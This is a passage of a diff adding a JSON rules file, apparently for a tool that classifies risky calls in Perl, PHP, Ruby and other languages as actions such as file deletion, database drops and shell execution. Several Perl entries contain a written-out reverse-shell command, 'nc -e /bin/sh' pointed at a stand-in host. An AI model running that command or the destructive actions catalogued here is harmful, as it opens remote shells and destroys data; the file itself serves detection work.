+stem":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","CORE.exec":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | \
+command $all","readpipe":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","systemx":"if-sign:socket-shell run nc -e /bin/sh shell.e\
+xample.net 443 | command $all","capturex":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","IPC.System.Simple.systemx":"if-sign:soc\
+ket-shell run nc -e /bin/sh shell.example.net 443 | command $all","IPC.System.Simple.capturex":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | c\
+ommand $all","eval":"eval $0","unlink":"run rm $all","rmdir":"run rmdir $all","rmtree":"run rm -rf $0","File.Path.rmtree":"run rm -rf $0","remove_tree":"run rm \
+-rf $all","File.Path.remove_tree":"run rm -rf $all","rename":"run mv $0 $1","move":"run mv $0 $1","copy":"run cp $0 $1","symlink":"run ln -s $0 $1","link":"run \
+ln $0 $1","truncate":"run truncate -s 0 $0","chmod":"chmod $1.. $0","chown":"run chown $0 $2..","kill":"kill $1.. $0","fork":"if-sign:repeats run fork","open":"\
+open-perl $1 $2..","find":"find","finddepth":"find","File.Find.find":"find","File.Find.finddepth":"find","do":"if-arg:text read $0","glob":"glob $0","readdir":"\
+names .","LWP.Simple.get":"request GET $0","get":"request GET $0","POSIX.setuid":"run setuid $0","pack":"pack $0 $1..","Net.OpenSSH.new":"made ssh","Net.SSH.Per\
+l.new":"made ssh","Net.SSH2.new":"made ssh","LWP.UserAgent.new":"made rest","HTTP.Tiny.new":"made rest","Mojo.UserAgent.new":"made rest","MongoDB.connect":"made\
+ mongo","MongoDB.MongoClient.new":"made mongo","run3":"program $0","IPC.Run3.run3":"program $0","path":"join $all","Path.Tiny.path":"join $all"},"methods":{"do"\
+:"sql $0","prepare":"sql $0","execute":"sql $0","system":"if-made:ssh command $all","capture":"if-made:ssh command $all","capture2":"if-made:ssh command $all","\
+pipe_out":"if-made:ssh command $all","pipe_in":"if-made:ssh command $all","exec":"if-made:ssh command $all","channel":"if-made:ssh value $self","delete":"if-mad\
+e:rest request-over DELETE $0","get":"if-made:rest request-over GET $0","post":"if-made:rest request-over POST $0 $1","post_form":"if-made:rest request-over POS\
+T $0 $1","put":"if-made:rest request-over POST $0 $1","get_database":"if-made:mongo value $self","get_collection":"if-made:mongo value $self","ns":"if-made:mong\
+o value $self","db":"if-made:mongo value $self","drop":"if-made:mongo run sql drop-database db","keys":"calls-back if-stored entries keys","del":"if-gets:keys r\
+un sql flush FLUSHDB","unlink":"if-gets:keys run sql flush FLUSHDB","visit":"if-text calls-back glob $self **","spew":"if-text write $self $0","spew_utf8":"if-t\
+ext write $self $0","spew_raw":"if-text write $self $0","remove":"if-text run rm $self","remove_tree":"if-text run rm -rf $self","children":"if-text folder $sel\
+f","slurp":"if-text read $self","slurp_utf8":"if-text read $self","slurp_raw":"if-text read $self"}},"php":{"lexer":{"comment":["//","#"],"block_comment":["/*",\
+"*/"],"sigils":"$","interpolation":"dollar","triple":false,"single_escapes":false,"quoting":"none","heredoc":"<<<[ \\\\t]*(?:\\"(\\\\w+)\\"|'(\\\\w+)'|(\\\\w+))","pattern\
+s":false,"lines":"none"},"program":"php","blocks":"braces","member_operators":["->","::","?->"],"concatenation_operators":["."],"bare_calls":false,"function_key\
+words":["function"],"inputs":{"$argv":"argv","$_SERVER":"server","$_ENV":"environment"},"sdks":["aws.","google.cloud.","stripe.","microsoftazure.","digitalocean\
+v2.","github.","gitlab.","cloudflare.","twilio.","s3client","ec2client","rdsclient","dynamodbclient","route53client","sqsclient","stripeclient","mailchimpmarket\
+ing.","mailgun.","algolia.","shopify.","elastic.","hubspot.","auth0.","cloudinary."],"texts":{"__DIR__":".","__FILE__":"./program.php"},"rewrites":[["^(?:\\\\w+\\\\\
+.)*(filesystem|httpclient|ssh2|\\\\w+iterator|splfileobject|pdo|process|\\\\w{2,}client)(?=$|\\\\.\\\\w+$)","$1"]],"case_sensitive":false,"functions":{"memcached":"made\
+ memcached","memcache":"made memcached","eval":"eval $0","assert":"if-arg:text eval $0","create_function":"eval $1","include":"include $0","require":"include $0\
+","include_once":"include $0","require_once":"include $0","system":"shell $0","exec":"shell $0","shell_exec":"shell $0","passthru":"shell $0","popen":"shell $0"\
+,"proc_open":"shell $0","pcntl_system":"shell $0","unlink":"run rm $0","rmdir":"run rmdir $0","rename":"run mv $0 $1","copy":"run cp $0 $1","symlink":"run ln -s\
+ $0 $1","link":"run ln $0 $1","chmod":"chmod $0 $1","chown":"run chown $1 $0","file_get_contents":"if-args:3 request POST $0 $2 | read $0","stream_context_creat\
+e":"made context $0","file":"read $0","readfile":"read $0","show_source":"read $0","highlight_file":"read $0","file_put_contents":"write $0 $1 $2","fopen":"open\
+ $0 $1","splfileobject":"open $0 $1","fwrite":"send $0 $1","posix_kill":"kill $0 $1","posix_setuid":"run setuid $0","pcntl_fork":"if-sign:repeats run fork","pcn\
+tl_exec":"program $all","mail":"run sendmail $0","fsockopen":"connect $all","curl_init":"made request $0","curl_exec":"request GET $0","curl_setopt":"if-says:^D\
+ELETE$ request DELETE $0 | if-says:^CURLOPT_POSTFIELDS$ request POST $0 $2","curl_setopt_array":"if-says:^DELETE$ request DELETE $0 | if-says:^CURLOPT_POSTFIELD\
+S$ request POST $0 $2","call_user_func":"invoke $0 $1..","call_user_func_array":"invoke $0 $1","getenv":"environment $0","dirname":"dirname $0","getcwd":"value \
+.","json_decode":"parse-json $0","fgets":"input","stream_get_contents":"input","readline":"input","glob":"glob $0","globiterator":"glob $0","scandir":"names $0"\
+,"recursivedirectoryiterator":"folder $0","directoryiterator":"folder $0","filesystemiterator":"folder $0","recursiveiteratoriterator":"value $0","escapeshellar\
+g":"value $0","escapeshellcmd":"value $0","array_slice":"value $0","array_reverse":"value $0","array_unique":"value $0","array_values":"value $0","mysqli_query"\
+:"sql $1","mysqli_multi_query":"sql $1","mysqli_real_query":"sql $1","sqlsrv_query":"sql $1","oci_parse":"sql $1","odbc_exec":"sql $1","pg_query":"sql $1 | sql \
+$0","pg_send_query":"sql $1 | sql $0","db.delete":"sql $0","db.update":"sql $0","db.statement":"sql $0","db.unprepared":"sql $0","db.table":"made rows","schema.\
+drop":"run sql drop-table $0","schema.dropifexists":"run sql drop-table $0","schema.dropalltables":"run sql drop-schema db","artisan.call":"run php artisan $0",\
+"base_path":"join . $0","app_path":"join app $0","database_path":"join database $0","resource_path":"join resources $0","storage_path":"join storage $0","filesy\
+stem":"made filesystem","file.deletedirectory":"run rm -rf $0","file.cleandirectory":"run rm -rf $0","guzzlehttp.client":"if-sign:http-client made rest $all","c\
+lient":"if-sign:http-client made rest $all","httpclient.create":"if-sign:http-client made rest $all","mongodb.client":"made mongo","process":"if-arg:list shell \
+$0","process.fromshellcommandline":"if-arg:text shell $0","process.run":"if-arg:text shell $0","process.start":"if-arg:text shell $0","http.withtoken":"made res\
+t","http.withheaders":"made rest","http.withbasicauth":"made rest","http.acceptjson":"made rest","http.baseurl":"made rest $0","http.delete":"request DELETE $0"\
+,"http.post":"request POST $0 $1","ssh2":"made ssh","ssh2_exec":"shell $1"},"methods":{"query":"sql $0","prepare":"sql $0","executestatement":"sql $0","executeq\
+uery":"sql $0","executeupdate":"sql $0","createquery":"sql $0","real_query":"sql $0","multi_query":"sql $0","truncate":"run sql truncate $owner","gettruncatetab\
+lesql":"made whole","getdroptablesql":"made whole","getdropschemasql":"made whole","getdropdatabasesql":"made whole","exec":"if-made:ssh shell $0 | sql $0","dro\
+pschema":"if-kept run sql drop-schema $owner","createquerybuilder":"made builder","delete":"if-made:builder if-no-sign:limits run sql delete-all $0 | if-made:re\
+st request-over DELETE $0","remove":"if-made:filesystem run rm -rf $0","request":"if-made:rest request-over $0 $1 $2:json:body","post":"if-made:rest request-ove\
+r POST $0 $1:json:body","get":"if-made:rest request-over GET $0","selectdatabase":"if-made:mongo value $self","selectcollection":"if-made:mongo value $self","ge\
+tdatabase":"if-made:mongo value $self","getcollection":"if-made:mongo value $self","drop":"if-made:mongo run sql drop-database db","keys":"calls-back if-stored \
+entries keys","del":"if-gets:keys run sql flush FLUSHDB","unlink":"if-gets:keys run sql flush FLUSHDB","call":"if-says:^migrate.(fresh|reset|refresh)$|^db.wipe$\
+ run php artisan migrate:fresh","flush":"if-made:memcached run sql flush FLUSHALL","update":"if-made:rows run sql update-all rows","openfile":"if-text open $sel\
+f $0","fwrite":"send $self $0","getpathname":"value $self","getrealpath":"value $self","deletedirectory":"run sql drop-bucket $0","cleandirectory":"run sql drop\
+-bucket $0"}},"ruby":{"lexer":{"comment":["#"],"sigils":"$@","interpolation":"hash","triple":false,"single_escapes":false,"quoting":"percent","heredoc":"<<[~-]?\
+(?:\\"(\\\\w+)\\"|'(\\\\w+)'|([A-Z_]\\\\w*))","patterns":true,"lines":"statements"},"program":"ruby","blocks":"end","member_operators":[".","::","&."],"concatenation_op\
+erators":["<<"],"bare_calls":true,"function_keywords":["def"],"inputs":{"ARGV":"args","$*":"args","ENV":"environment","$_":"text","STDIN":"lines","$stdin":"line\
+s","ARGF":"lines"},"sdks":["Aws.","Google.Cloud.","Azure.","Stripe.","Octokit.","Gitlab.","Elasticsearch.","DropletKit.","Fog.","Algolia.","Twilio."],"texts":{"\
+__FILE__":"./program.rb","__dir__":"."},"aliases":{"rm_f":"FileUtils.rm_f","rm_r":"FileUtils.rm_r","rm_rf":"FileUtils.rm_rf","rmtree":"FileUtils.rmtree","remove\
+_dir":"FileUtils.remove_dir","remove_entry":"FileUtils.remove_entry","cp_r":"FileUtils.cp_r","remove_entry_secure":"FileUtils.remove_entry_secure","chmod_R":"Fi\
+leUtils.chmod_R","chown_R":"FileUtils.chown_R"},"rewrites":[["^(?:Kernel|Object|self)\\\\.",""]],"functions":{"puts":"print line","p":"print line","pp":"print lin\
+e","print":"print text","gets":"input","readlines":"input","Rails.application":"name rails_application","ActiveRecord.Tasks.DatabaseTasks.drop_current":"run sql\
+ drop-database db","ActiveRecord.Tasks.DatabaseTasks.drop_all":"run sql drop-database db","ActiveRecord.Tasks.DatabaseTasks.purge_current":"run sql drop-databas\
+e db","ActiveRecord.Tasks.DatabaseTasks.truncate_all":"run sql drop-database db","rails_application.credentials":"secret","send":"invoke $0 $1..","public_send":\
+"invoke $0 $1..","__send__":"invoke $0 $1..","Dir.[]":"globs $all","Rake.FileList.[]":"globs $all","FileList.[]":"globs $all","Rake.FileList.new":"globs $all","\
+FileList.new":"globs $all","Sequel.connect":"made sequel","Sequel.postgres":"made sequel","Sequel.mysql2":"made sequel","Sequel.sqlite":"made sequel","Sequel.ti\
+nytds":"made sequel","Sequel.oracle":"made sequel","Sequel.jdbc":"made sequel","system":"command $all","exec":"command $all","spawn":"command $all","IO.popen":"\
+command $all","Open3.capture2":"command $all","Open3.capture2e":"command $all","Open3.capture3":"command $all","Open3.popen3":"command $all","PTY.spawn":"comman\
+d $all","eval":"eval $0","instance_eval":"eval $0","class_eval":"eval $0","module_eval":"eval $0","TOPLEVEL_BINDING.eval":"eval $0","binding.eval":"eval $0","Si\
+dekiq.Queue.new":"made sidekiq","Sidekiq.RetrySet.new":"made sidekiq","Sidekiq.ScheduledSet.new":"made sidekiq","Sidekiq.DeadSet.new":"made sidekiq","Sidekiq.Qu\
+eue.all":"entries sidekiq","Resque.remove_queue":"run celery purge","Docker.Volume.all":"entries docker-volume","Sequel.mock":"made mock","MockRedis.new":"made \
+mock","Docker.Volume.get":"made docker-volume","Docker.Volume.prune":"run docker volume prune -af","ObjectSpace.each_object":"entries model","Mongo.Client.new":\
+"made mongo","Mongoid.default_client":"made mongo","Mongoid.Clients.default":"made mongo","Mongoid.client":"made mongo","Mongoid.Clients.with_name":"made mongo"\
+,"Mongoid.purge!":"run sql drop-database mongoid","Mongoid.truncate!":"run sql drop-database mongoid","Mongoid.Config.purge!":"run sql drop-database mongoid","M\
+ongoid.Config.truncate!":"run sql drop-database mongoid","Net.SSH.start":"calls-back made ssh","open":"calls-back open $0 $1","File.open":"calls-back open $0 $1\
+","File.new":"calls-back open $0 $1","URI.open":"request GET $0","Net.HTTP.get":"request GET $0","HTTParty.get":"request GET $0","Faraday.get":"request GET $0",\
+"RestClient.get":"request GET $0","HTTP.get":"request GET $0","Excon.get":"request GET $0","Typhoeus.get":"request GET $0","Net.HTTP.post":"request POST $0 $1 $\
+:body $:json $:form","Net.HTTP.post_form":"request POST $0 $1 $:body $:json $:form","HTTParty.post":"request POST $0 $1 $:body $:json $:form","Faraday.post":"re\
+quest POST $0 $1 $:body $:json $:form","RestClient.post":"request POST $0 $1 $:body $:json $:form","HTTP.post":"request POST $0 $1 $:body $:json $:form","Excon.\
+post":"request POST $0 $1 $:body $:json $:form","Typhoeus.post":"request POST $0 $1 $:body $:json $:form","HTTParty.delete":"request DELETE $0","Faraday.delete"\
+:"request DELETE $0","RestClient.delete":"request DELETE $0","HTTP.delete":"request DELETE $0","Excon.delete":"request DELETE $0","Typhoeus.delete":"request DEL\
+ETE $0","Net.HTTP.Delete.new":"open-request DELETE $0","RubyVM.InstructionSequence.compile":"value $0","URI":"value $0","URI.parse":"value $0","File.expand_path\
+":"value $0","Pathname":"value $0","Pathname.new":"value $0","File.read":"read $0","IO.read":"read $0","File.readlines":"read $0","File.foreach":"read $0","File\
+.binread":"read $0","File.write":"write $0 $1","IO.write":"write $0 $1","File.delete":"run rm $all","File.unlink":"run rm $all","FileUtils.rm":"run rm $all","Fi\
+leUtils.remove":"run rm $all","Dir.rmdir":"run rmdir $0","Dir.delete":"run rmdir $0","Dir.unlink":"run rmdir $0","FileUtils.rm_f":"run rm -f $all","FileUtils.rm\
+_r":"run rm -r $all","FileUtils.rm_rf":"run rm -rf $all","FileUtils.rmtree":"run rm -rf $all","FileUtils.remove_dir":"run rm -rf $all","FileUtils.remove_entry":\
+"run rm -rf $all","FileUtils.remove_entry_secure":"run rm -rf $all","FileUtils.mv":"run mv $0 $1","File.rename":"run mv $0 $1","FileUtils.cp":"run cp $0 $1","Fi\
+leUtils.cp_r":"run cp -r $0 $1","FileUtils.ln_s":"run ln -s $0 $1","File.symlink":"run ln -s $0 $1","FileUtils.chmod":"chmod $1 $0","FileUtils.chmod_R":"run chm\
+od -R $0 $1","FileUtils.chown_R":"run chown -R $0 $2","File.chmod":"chmod $1.. $0","File.chown":"run chown $0 $2..","File.truncate":"run truncate -s 0 $0","File\
+.join":"join $all","File.dirname":"dirname $0","Dir.home":"value ~","Dir.pwd":"value .","Dir.mktmpdir":"calls-back new-folder","Dir.tmpdir":"value /tmp","Dir.gl\
+ob":"calls-back glob $0","Pathname.glob":"calls-back glob $0","Dir.children":"names $0","Dir.entries":"names $0","Dir.each_child":"names $0","Find.find":"calls-\
+back folder $0","Process.kill":"kill $1.. $0","Process.uid":"value","fork":"if-sign:repeats run fork","TCPSocket.new":"connect $all","TCPSocket.open":"connect $\
+all"},"methods":{"write":"send $self $0","puts":"send $self $0","execute":"sql $0","exec_params":"sql $0","query":"sql $0","async_exec":"sql $0","run":"sql $0",\
+"exec_query":"sql $0","exec":"if-made:ssh shell $0 | sql $0","method":"method $self $0","const_get":"attribute $self $0","send":"message $self $0 $1..","public_\
+send":"message $self $0 $1..","__send__":"message $self $0 $1..","then":"then","yield_self":"then","find_each":"if-name calls-back made rows","in_batches":"if-n\
+ame calls-back made rows","update_all":"if-name run sql update-all $owner","destroy":"if-sign:unconditional if-made:rows if-none run sql delete-all rows","destr\
+oy!":"if-sign:unconditional if-made:rows if-none run sql delete-all rows","purge":"if-sign:unconditional if-made:rows if-none run sql delete-all rows","remove":\
+"if-made:docker-volume run docker volume rm $self","open":"if-text calls-back open $self $0","descendants":"entries model","subclasses":"entries model","delete_\
+all":"if-made:model run sql delete-all rows | if-name if-kept run sql delete-all $owner | run sql delete-some rows","destroy_all":"if-made:model run sql delete-\
+all rows | if-name if-kept run sql delete-all $owner | run sql delete-some rows","delete":"if-text if-none run rm $self | if-made:sequel if-none run sql delete-\
+all rows | if-gets:keys run sql flush FLUSHDB | if-database if-none run sql delete-all $owner","unlink":"if-text if-none run rm $self | if-gets:keys run sql flu\
+sh FLUSHDB","del":"if-gets:keys run sql flush FLUSHDB","truncate":"if-made:sequel run sql truncate rows","tap":"calls-back value $self","freeze":"value $self","\
+dup":"value $self","clone":"value $self","compact":"value $self","uniq":"value $self","sort":"value $self","to_a":"value $self","flatten":"value $self","to_set"\
+:"value $self","clear":"if-made:sidekiq run celery purge","database":"if-made:mongo value $self","use":"if-made:mongo value $self","drop":"if-made:mongo run sql\
+ drop-database db","exec!":"if-made:ssh shell $0","eval":"if-content eval $self | if-text eval $self","class_eval":"if-arg:content eval $0 | if-arg:text eval $0\
+","module_eval":"if-arg:content eval $0 | if-arg:text eval $0","instance_eval":"if-arg:content eval $0 | if-arg:text eval $0","update":"if-made:sequel run sql u\
+pdate-all rows","reset":"if-says:^hard$ if-args:2 run git reset --hard","from":"if-made:sequel value $self","keys":"calls-back if-stored entries keys","scan_eac\
+h":"calls-back if-stored entries keys","rmtree":"if-text run rm -rf $self","children":"folder $self","each_child":"folder $self","read":"lines $self","gets":"if\
+-list any-of $self","shift":"if-list any-of $self","first":"at 0 $self","last":"at -1 $self","fetch":"entry $self $0 $1","each_pair":"if-map pairs $self","value\
+s":"if-map values $self","each_value":"if-map values $self"}},"other":{"lexer":{"comment":["//"],"sigils":"","interpolation":"none","triple":false,"single_escap\
+es":true,"quoting":"none","patterns":false,"lines":"statements"},"program":"node","blocks":"braces","member_operators":[".","?."],"concatenation_operators":[],"\
+bare_calls":false,"function_keywords":["function"],"inputs":{"os.Args":"argv","sys.env":"environment","System.environment":"environment"},"texts":{"os.pwd":".",\
+"os.home":"~","FileManager.default.homeDirectoryForCurrentUser":"~","URL.homeDirectory":"~","FileManager.default.temporaryDirectory":"/tmp/temporary","URL.tempo\
+raryDirectory":"/tmp/temporary","Directory.systemTemp":"/tmp/temporary","Directory.current":".","FileManager.default.currentDirectoryPath":"."},"rewrites":[["^(\
+?:(?:std|tokio|java|async_std|fs_err|experimental|filesystem|(?:n?io|file)(?=\\\\.\\\\w+\\\\.))\\\\.)+(?=\\\\w)",""]],"functions":{"print":"print","println":"print","cons\
+ole.log":"print","redis.call":"if-says:^(flush|FLUSH) run sql flush $0","redis.pcall":"if-says:^(flush|FLUSH) run sql flush $0","string.char":"characters $all",\
+"table.concat":"join-texts $0 $1","strings.Join":"join-texts $0 $1","string.upper":"fold upper $0","string.lower":"fold lower $0","c":"value $all","list":"value\
+ $all","List.of":"value $all","Set.of":"value $all","listOf":"value $all","setOf":"value $all","arrayOf":"value $all","mutableListOf":"value $all","Arrays.asLis\
+t":"value $all","Seq":"value $all","List":"value $all","Set":"value $all","Vector":"value $all","Array":"value $all","Stream.of":"value $all","List.toList":"val\
+ue $all","IO.inspect":"value $all","ipairs":"value $all","pairs":"value $all","Command.new":"value $all","String.to_atom":"value $0","String.to_existing_atom":"\
+value $0","expand_file_name":"value $0","file_truename":"value $0","vim.fn.expand":"value $0","vim.fs.normalize":"value $0","Path.toFile":"value $0","File.toPat\
+h":"value $0","Path.toString":"value $0","File.new":"value $0","Directory":"value $0","Directory.new":"value $0","URL":"value $0","URI":"value $0","URI.create":\
+"value $0","Uri.parse":"value $0","Uri.unsafeParse":"value $0","expand_path":"value $0","Path.expand":"value $0","abspath":"value $0","normpath":"value $0","ope\
+ndir":"value $0","filepath.Abs":"value $0","filepath.Clean":"value $0","os.ExpandEnv":"value $0","std.string":"value $0","string":"value $0","String.valueOf":"v\
+alue $0","Process":"value $0","Cmd":"value $0","must":"value $0","filepath.Join":"join $all","path.Join":"join $all","path.join":"join $all","Paths.get":"join $\
+all","Path.of":"join $all","Path.Combine":"join $all","Path.join":"join $all","File":"join $all","joinpath":"join $all","filename.join":"join $all","file.path":\
+"join $all","path":"join $all","fs.path":"join $all","PathBuf.from":"join $all","Path.new":"join $all","Path":"join $all","os.Path":"join $all","join_path":"joi\
+n $all","path_join":"join $all","home_dir":"value ~","dirs.home_dir":"value ~","home.home_dir":"value ~","os.UserHomeDir":"value ~","UserHomeDir":"value ~","hom\
+edir":"value ~","path_home":"value ~","System.user_home":"value ~","user_home":"value ~","NSHomeDirectory":"value ~","FileManager.default.homeDirectoryForCurren\
+tUser":"value ~","getHomeDir":"value ~","os.Getwd":"value .","pwd":"value .","getwd":"value .","File.cwd":"value .","os.pwd":"value .","getCurrentDir":"value ."\
+,"env.current_dir":"value .","Dir.pwd":"value .","lfs.currentdir":"value .","os.Getenv":"environment $0","System.getenv":"environment $0","System.getProperty":"\
+environment $0","os.getenv":"environment $0","getenv":"environment $0","Sys.getenv":"environment $0","env.var":"environment $0","System.get_env":"environment $0\
+","make_temp_file":"value /tmp/\\ufffc","os.MkdirTemp":"value /tmp/\\ufffc","ioutil.TempDir":"value /tmp/\\ufffc","os.CreateTemp":"value /tmp/\\ufffc","tempfile.tem\
+pdir":"value /tmp/\\ufffc","tempdir":"value /tmp/\\ufffc","tempfile":"value /tmp/\\ufffc","mktempdir":"value /tmp/\\ufffc","mktemp":"value /tmp/\\ufffc","tempname":"\
+value /tmp/\\ufffc","os.tmpname":"value /tmp/\\ufffc","os.TempDir":"value /tmp/\\ufffc","env.temp_dir":"value /tmp/\\ufffc","TempDir.new":"value /tmp/\\ufffc","tempf\
+ile.Builder.new":"value /tmp/\\ufffc","Files.createTempDirectory":"value /tmp/\\ufffc","Files.createTempFile":"value /tmp/\\ufffc","createTempDir":"value /tmp/\\uff\
+fc","createTempDirectory":"value /tmp/\\ufffc","createTempFile":"value /tmp/\\ufffc","File.createTempFile":"value /tmp/\\ufffc","File.createTempDir":"value /tmp/\\u\
+fffc","os.temp.dir":"value /tmp/\\ufffc","os.temp":"value /tmp/\\ufffc","Directory.systemTemp.createTemp":"value /tmp/\\ufffc","Directory.systemTemp.createTempSync\
+":"value /tmp/\\ufffc","FileManager.default.temporaryDirectory":"value /tmp/\\ufffc","NSTemporaryDirectory":"value /tmp/\\ufffc","Path.GetTempPath":"value /tmp/\\uf\
+ffc","Path.GetTempFileName":"value /tmp/\\ufffc","System.tmp_dir":"value /tmp/\\ufffc","mkdtemp":"value /tmp/\\ufffc","tmpnam":"value /tmp/\\ufffc","Briefly.create"\
+:"value /tmp/\\ufffc","getTempDir":"value /tmp/\\ufffc","rm":"if-option:recursive=true run rm -rf $0 | run rm $0","file.remove":"run rm $0","os.Remove":"run rm $0\
+","fs.remove_file":"run rm $0","Files.delete":"run rm $0","Files.deleteIfExists":"run rm $0","unlink":"run rm $0","remove":"run rm $0","os.remove":"run rm $0","\
+os.remove.file":"run rm $0","File.rm":"run rm $0","File.Delete":"run rm $0","file.delete":"run rm $0","File.delete":"run rm $0","vim.uv.fs_unlink":"run rm $0","\
+vim.loop.fs_unlink":"run rm $0","file_delete":"run rm $0","removeFile":"run rm $0","remove_file":"run rm $0","deleteFile":"run rm $0","delete-file":"run rm $0",\
+"delete_file":"run rm $0","vim.fn.delete":"run rm -rf $0","vim.fs.rm":"run rm -rf $0","os.RemoveAll":"run rm -rf $0","fs.remove_dir_all":"run rm -rf $0","Files.\
+remove_all":"run rm -rf $0","remove_all":"run rm -rf $0","FileUtils.deleteDirectory":"run rm -rf $0","FileUtils.deleteQuietly":"run rm -rf $0","FileUtils.forceD\
+elete":"run rm -rf $0","FileUtils.cleanDirectory":"run rm -rf $0","File.rm_rf":"run rm -rf $0","file.del_dir_r":"run rm -rf $0","Directory.Delete":"run rm -rf $\
+0","dir_delete":"run rm -rf $0","os.remove.all":"run rm -rf $0","removeDir":"run rm -rf $0","removeDirectoryRecursive":"run rm -rf $0","removePathForcibly":"run\
+ rm -rf $0","rm_rf":"run rm -rf $0","delete-directory":"run rm -rf $0","delete_directory":"run rm -rf $0","remove_dir_all":"run rm -rf $0","delete_directory_tre\
+e":"run rm -rf $0","delete_directory_files":"run rm -rf $0","fs.rm_rf":"run rm -rf $0","FileUtils.deleteTree":"run rm -rf $0","deltree":"run rm -rf $0","lfs.rmd\
+ir":"run rmdir $0","rmdir":"run rmdir $0","fs.remove_dir":"run rmdir $0","File.rmdir":"run rmdir $0","file.del_dir":"run rmdir $0","os.remove.dir":"run rmdir $0\
+","system":"shell $0","popen":"shell $0","os.execute":"shell $0","io.popen":"shell $0","shell":"shell $0","os.cmd":"shell $0","System.shell":"shell $0","Runtime\
+.exec":"shell $0","execShellCmd":"shell $0","execCmd":"shell $0","execCmdEx":"shell $0","staticExec":"shell $0","spawnCommand":"shell $0","shell_command":"shell\
+ $0","shell_command_to_string":"shell $0","async_shell_command":"shell $0","uiop.run_program":"shell $0","run_program":"shell $0","run_shell_command":"shell $0"\
+,"run":"shell $0","callCommand":"shell $0","success":"shell $0","readchomp":"shell $0","call_process":"program $all","start_process":"program $all","exec.Comman\
+d":"program $all","exec.CommandContext":"program $all","ProcessBuilder":"program $all","os.proc":"program $all","spawn":"spawn $0 $1","system2":"spawn $0 $1","S\
+ystem.cmd":"spawn $0 $1","Process.run":"spawn $0 $1","Process.runSync":"spawn $0 $1","Process.start":"spawn $0 $1","Process.Start":"spawn $0 $1","execl":"execut\
+e $0 $1..","execlp":"execute $0 $1..","execv":"execute $0 $1..","execvp":"execute $0 $1..","execve":"execute $0 $1..","kill":"kill $0 $1","syscall.Kill":"kill $\
+0 $1","writeFile":"write $0 $1","os.WriteFile":"write $0 $1","ioutil.WriteFile":"write $0 $1","fs.write":"write $0 $1","Files.writeString":"write $0 $1","Files.\
+write":"write $0 $1","File.write":"write $0 $1","spit":"write $0 $1","File.WriteAllText":"write $0 $1","write_file":"write $0 $1","os.write.over":"write $0 $1",\
+"writeLines":"write $1 $0","fopen":"open $0 $1","io.open":"open $0 $1","File.open":"open $0 $1","open":"open $0 $1 flags","os.OpenFile":"open $0 $1 flags","cat"\
+:"if-option:file write $:file $0","os.Create":"open $0 w","File.create":"open $0 w","FileWriter":"open $0 w","PrintWriter":"open $0 w","FileOutputStream":"open \
+$0 w","os.Truncate":"run truncate -s 0 $0","truncate":"run truncate -s 0 $0","os.ReadFile":"read $0","ioutil.ReadFile":"read $0","os.Open":"read $0","fs.read":"\
+read $0","fs.read_to_string":"read $0","Files.readString":"read $0","Files.readAllBytes":"read $0","Files.readAllLines":"read $0","File.read":"read $0","File.Re\
+adAllText":"read $0","upload_file":"read $0","readLines":"read $0","read_file":"read $0","FileInputStream":"read $0","FileReader":"read $0","String.contentsOfFi\
+le":"read $0","Data.contentsOf":"read $0","slurp":"read $0","HttpRequest.BodyPublishers.ofFile":"read $0","BodyPublishers.ofFile":"read $0","File.read_to_string\
+":"read $0","os.ReadDir":"names $0","ioutil.ReadDir":"names $0","lfs.dir":"names $0","File.ls":"names $0","readdir":"names $0","listdir":"names $0","directory_f\
+iles":"folder $0","list.files":"folder $0","list.dirs":"folder $0","dir_ls":"folder $0","fs.read_dir":"folder $0","os.list":"folder $0","Files.list":"folder $0"\
+,"directory_iterator":"folder $0","directory_files_recursively":"folder $0 below","WalkDir.new":"folder $0 below","os.walk":"folder $0 below","Files.walk":"fold\
+er $0 below","recursive_directory_iterator":"folder $0 below","walkdir.WalkDir.new":"folder $0 below","filepath.Walk":"calls-back folder $0 below","filepath.Wal\
+kDir":"calls-back folder $0 below","nftw":"calls-back folder $0 below","ftw":"calls-back folder $0 below","walkdir":"walk $0","filelib.wildcard":"glob $0","file\
+path.Glob":"glob $0","glob":"glob $0","Sys.glob":"glob $0","glob.glob":"glob $0","Path.wildcard":"glob $0","any_of":"any-of $0","filepath.Dir":"dirname $0","dir\
+name":"dirname $0","Path.dirname":"dirname $0","fmt.Sprintf":"format $0 $1..","format":"format $0 $1..","String.format":"format $0 $1..","string.format":"format\
+ $0 $1..","sprintf":"format $0 $1..","strings.Fields":"split $0","words":"split $0","String.split":"split $0","OptionParser.split":"split $0","shellwords.split"\
+:"split $0","shlex.split":"split $0","lapply":"map $1 $0","sapply":"map $1 $0","vapply":"map $1 $0","walk":"map $1 $0","Enum.each":"map $1 $0","Enum.map":"map $\
+1 $0","Task.async_stream":"map $1 $0","lists.foreach_":"map $1 $0","for_each":"map $0 $1","mapc":"map $0 $1","mapcar":"map $0 $1","foreach":"map $0 $1","map":"m\
+ap $0 $1","lists.foreach":"map $0 $1","lists.map":"map $0 $1","pcall":"invoke $0","dbExecute":"sql $0 | sql $1","dbSendQuery":"sql $0 | sql $1","dbGetQuery":"sq\
+l $0 | sql $1","dbSendStatement":"sql $0 | sql $1","execute":"sql $0 | sql $1","DBInterface.execute":"sql $0 | sql $1","SQLite.execute":"sql $0 | sql $1","SQL.q\
+uery":"sql $0 | sql $1","query":"sql $0 | sql $1","LibPQ.execute":"sql $0 | sql $1","sqlx.query":"sql $0 | sql $1","diesel.sql_query":"sql $0 | sql $1","mysql_q\
+uery":"sql $0 | sql $1","PQexec":"sql $0 | sql $1","sqlite3_exec":"sql $0 | sql $1","sql_query":"sql $0 | sql $1","dbRemoveTable":"run sql drop-table rows","mne\
+sia.delete_table":"run sql drop-table rows","mnesia.clear_table":"run sql drop-table rows","mnesia.delete_schema":"run sql drop-schema db","code.load_binary":"e\
+val $2","http.Get":"request GET $0","reqwest.get":"request GET $0","GET":"request GET $0","httpc.request":"request GET $0","httpc_get":"request GET $0","http.ge\
+t":"request GET $0","POST":"request POST $0 $1 $:body","PUT":"request POST $0 $1 $:body","http.request":"request POST $0 $1 $:body","httr.POST":"request POST $0\
+ $1 $:body","HTTP.post":"request POST $0 $1 $:body","HTTPoison.post":"request POST $0 $1 $:body","Req.post":"request POST $0 $1 $:body","httpc_post":"request PO\
